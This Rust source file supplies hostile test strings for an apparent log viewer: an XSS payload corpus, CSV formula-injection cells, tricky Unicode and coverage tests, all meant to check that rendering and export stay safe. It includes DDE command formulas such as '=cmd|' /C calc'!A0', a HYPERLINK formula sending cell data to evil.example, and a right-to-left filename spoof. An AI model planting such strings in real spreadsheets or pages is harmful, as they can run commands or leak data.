//! Hostile strings mixed into generated data: audited users type anything, so
//! the viewer must render and export it safely. These lists are the test
//! corpus; the generator draws from them for commands, window titles, user
//! names, tags and alert text.

use std::sync::OnceLock;

/// The XSS corpus, one payload per line. Also read by the end-to-end test
/// `tests/e2e/hostile.test.mjs`, so the browser checks exactly these strings.
pub const XSS_FILE: &str = include_str!("../data/xss-payloads.txt");

/// At least 50 distinct HTML/JavaScript injection payloads (the non-empty
/// lines of [`XSS_FILE`], in file order). Payloads that would run if rendered
/// as HTML call `alert` (a dialog the browser tests record) or set
/// `window.__xss`.
pub fn xss() -> &'static [&'static str] {
    static LIST: OnceLock<Vec<&'static str>> = OnceLock::new();
    LIST.get_or_init(|| XSS_FILE.lines().filter(|l| !l.is_empty()).collect())
}

/// Cells a spreadsheet would run as formulas.
pub const CSV_FORMULAS: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=1+2;=cmd|'/C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
];

/// Right-to-left, bidi-control, emoji and other awkward Unicode text.
pub const UNICODE: &[&str] = &[
    "שלום עולם",
    "مرحبا بالعالم",
    "abc\u{202E}gpj.exe",
    "\u{200F}\u{202B}rtl override\u{202C}",
    "🔥🚀💥 deploy",
    "👩‍💻👨‍👩‍👧‍👦",
    "Zalgo: Z̴̡̛a̵͖̓l̶̰̈g̷̣̍ǒ̸̞",
    "日本語のタイトル",
    "null\u{0}byte",
    "tab\there\nnewline",
];

/// Every hostile string, for places that take any of them.
pub fn all() -> impl Iterator<Item = &'static str> {
    xss().iter().chain(CSV_FORMULAS).chain(UNICODE).copied()
}

/// A 10,000-character line (with a payload at its end, to test truncation in the UI).
pub fn long_line(seed: u64) -> String {
    let mut s = String::with_capacity(10_100);
    let word = ["lorem", "ipsum", "dolor", "sit", "amet"];
    let mut i = seed as usize;
    while s.len() < 10_000 - 40 {
        s.push_str(word[i % word.len()]);
        s.push(' ');
        i = i.wrapping_mul(31).wrapping_add(7);
    }
    s.push_str("<script>alert('end')</script>");
    while s.len() < 10_000 {
        s.push('.');
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn xss_file_has_50_distinct_clean_lines() {
        let list = xss();
        let distinct: HashSet<&str> = list.iter().copied().collect();
        assert!(distinct.len() >= 50, "{} distinct payloads", distinct.len());
        assert_eq!(distinct.len(), list.len(), "no payload twice");
        // The JS test splits on '\n' only; a '\r' or padding would make the
        // two readers disagree about what the payload is.
        assert!(!XSS_FILE.contains('\r'));
        assert!(XSS_FILE.ends_with('\n') && !XSS_FILE.contains("\n\n"));
        for p in list {
            assert_eq!(*p, p.trim(), "no surrounding whitespace: {p:?}");
        }
    }

    #[test]
    fn xss_file_covers_the_injection_kinds() {
        let list = xss();
        let has = |needle: &str| list.iter().any(|p| p.to_ascii_lowercase().contains(needle));
        for needle in [
            "<script",
            "onerror=",
            "<svg",
            "onload=",
            "<iframe",
            "srcdoc=",
            "javascript:",
            "formaction=",
            "<template",
            "<style",
            "\"><",
            "&lt;",
            "&#60;",
            "<object",
            "<embed",
            "<base",
            "<meta",
            "window.__xss",
        ] {
            assert!(has(needle), "a payload with {needle}");
        }
    }
}
